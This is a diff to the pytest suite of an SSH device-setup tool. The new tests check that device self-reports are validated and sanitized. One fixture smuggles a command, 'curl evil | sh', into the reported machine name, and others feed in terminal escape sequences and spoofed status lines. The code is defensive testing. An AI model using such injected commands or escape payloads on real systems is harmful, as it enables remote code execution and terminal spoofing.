@@ -170,7 +170,7 @@ class Scripted:
         raise AssertionError
 
 
-LOOK = json.dumps({"python": [3, 11, 2], "machine": "aarch64", "libc": "2.36", "free_bytes": 1, "made_of": None, "wheels": {}})
+LOOK = json.dumps({"python": [3, 11, 2], "machine": "aarch64", "made_of": None, "wheels": {}})
 FOUND = {"import sys; print": Completed(0, "3 11\n", ""), '"look"': Completed(0, f"Welcome!\n{LOOK}\n", "")}
 
 
@@ -206,6 +206,37 @@ def test_a_failure_on_the_device_is_told_with_what_to_do(case: str, tmp_path: Pa
     assert "\x1b" not in str(error.value)
     if hint:
         assert re.search(hint, str(error.value.hint)), error.value.hint
+
+
+STRANGE: dict[str, dict[str, Completed]] = {
+    "a machine that is a command": {'"look"': Completed(0, LOOK.replace("aarch64", "x86_64; curl evil | sh #"), "")},
+    "a machine alone": {'"look"': Completed(0, '{"machine": "x"}', "")},
+    "a list": {'"look"': Completed(0, "[]", "")},
+    "brackets without end": {'"look"': Completed(0, "[" * 100_000, "")},
+    "a large version": {'"look"': Completed(0, LOOK.replace("11", "1" * 400), "")},
+    "digits without end": {"import sys; print": Completed(0, f"3 {'1' * 5000}\n", "")},
+}
+
+
+@pytest.mark.parametrize("case", STRANGE)
+def test_what_a_device_says_of_itself_is_checked_before_it_is_used(case: str, tmp_path: Path) -> None:
+    given = SetupOrder(None, read_wheels(tiny_wheel(tmp_path), edgebert.__version__))
+    channel = Scripted({**fault("network", "none"), **STRANGE[case]})
+    with pytest.raises(DeviceError, match=r"does not say what it has|no Python") as error:
+        asyncio.run(Setup(SshDevice("kitchen", SshPlace("kitchen")), channel, given, LANE).run())
+    assert "curl" not in str(error.value)
+
+
+def test_an_empty_wheel_is_brought_as_any_other(tmp_path: Path) -> None:
+    folder = tiny_wheel(tmp_path / "wheels")
+    (folder / "empty-1.0-py3-none-any.whl").touch()
+    wheels = read_wheels(folder, edgebert.__version__)
+    assert wheels.own is not None
+    look = {**json.loads(LOOK), "wheels": {OWN: wheels.own.sha256()}}
+    script = {**FOUND, '"look"': Completed(0, json.dumps(look), ""), '"install"': Completed(0, '{"done": true}', "")}
+    channel = Scripted(script)
+    assert asyncio.run(Setup(SshDevice("x", SshPlace("x")), channel, SetupOrder(key=None, wheels=wheels), LANE).run())
+    assert channel.put_there == ["edgebert/wheels/empty-1.0-py3-none-any.whl"]
 
 
 def test_only_wheels_that_are_missing_travel_and_an_extra_stays(tmp_path: Path) -> None:
@@ -255,6 +286,65 @@ def test_devices_check_says_who_can_be_used(cli: Callable[..., Result], tmp_path
     _, desk, shelf, hint = done.out.splitlines()
     assert "ready" in desk and "unusable" in shelf and "holds something else" in shelf and hint.startswith("  ")
     assert "desk: ready" in done.err
+
+
+AGENT = """#!{python}
+import json, sys
+if sys.argv[1] != "-c":
+    about = {{"protocol": 1, "edgebert_version": "1", "python": "3", "machine": "m", "cpu": "c", "isas": [],
+              "runtimes": {{"onnxruntime": "1"}}, "free_bytes": 1, "trusted": [], "serving": None}}
+    about.update({said})
+    print(json.dumps({{"event": "result", "value": about}}))
+"""
+
+
+def device_that_says(folder: Path, name: str, said: dict[str, Any]) -> str:
+    """A line of a fleet; its device answers `hello` with that."""
+    agent = folder / f"python-{name}"
+    agent.write_text(AGENT.format(python=sys.executable, said=said))
+    agent.chmod(0o755)
+    return f"  {name}: {{address: ./{name}, python: {agent}}}\n"
+
+
+def test_a_broken_device_neither_stops_the_others_nor_writes_on_the_terminal(
+    cli: Callable[..., Result], tmp_path: Path
+) -> None:
+    said = {"cpu": "\x1b[2J\x9b2J\ndesk  ready", "isas": ["\x07"], "runtimes": {"\x1b": "\n"}, "trusted": ["\x9b"]}
+    texts = dict.fromkeys(("edgebert_version", "python", "machine"), "a\x1b[2J\n")
+    (tmp_path / "fleet.yaml").write_text(
+        "devices:\n"
+        + device_that_says(tmp_path, "vast", {"free_bytes": 10**400})
+        + device_that_says(tmp_path, "loud", {**said, **texts})
+        + "  desk: {address: ./desk}\n"
+    )
+    done = cli("devices", "check", "--fleet", "fleet.yaml")
+    assert done.code == 3
+    _, vast, loud, desk, hint = done.out.splitlines()
+    assert "vast" in vast and "does not say who it is" in vast and "devices setup vast" in hint
+    assert loud.startswith("loud") and desk.startswith("desk") and "ready" in desk
+    listed = cli("devices", "check", "--fleet", "fleet.yaml", "--json")
+    for text in (done.out, done.err, listed.out, listed.err):
+        assert all(line.isprintable() for line in text.splitlines()) and "\x9b" not in text
+    assert "\\u001b" not in listed.out and "\\u009b" not in listed.out
+
+
+def test_an_error_that_nobody_foresaw_is_that_device_s_alone(
+    cli: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "busy").mkdir()
+    opened = LocalDevice.open
+
+    def open_one(device: LocalDevice) -> Any:
+        if device.name == "./busy":
+            raise OverflowError("of ours\nspoofed  ready")
+        return opened(device)
+
+    monkeypatch.setattr(LocalDevice, "open", open_one)
+    done = cli("devices", "check", "./busy", "./desk")
+    assert done.code == 3
+    _, busy, desk, hint = done.out.splitlines()
+    assert "OverflowError: of ours spoofed" in busy and "ready" in desk and "a fault in edgebert" in hint
+    assert "desk: ready" in done.err and "busy: unusable: OverflowError" in done.err
 
 
 def test_devices_setup_of_a_local_folder_has_nothing_to_install(cli: Callable[..., Result], tmp_path: Path) -> None:
